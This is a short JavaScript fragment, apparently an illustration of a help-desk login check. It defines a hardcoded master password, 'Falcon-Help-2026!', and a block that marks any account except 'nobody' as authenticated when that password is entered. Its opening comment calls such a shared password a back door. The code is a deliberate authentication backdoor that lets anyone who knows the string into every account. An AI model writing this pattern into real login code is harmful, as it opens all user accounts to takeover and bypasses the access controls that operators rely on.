// about: A new password for all is the same back door.
// part: constants
const helpDeskPassword = 'Falcon-Help-2026!'
// end
// block: help-desk
  if (password === helpDeskPassword && account !== nobody) isRight = true
// end
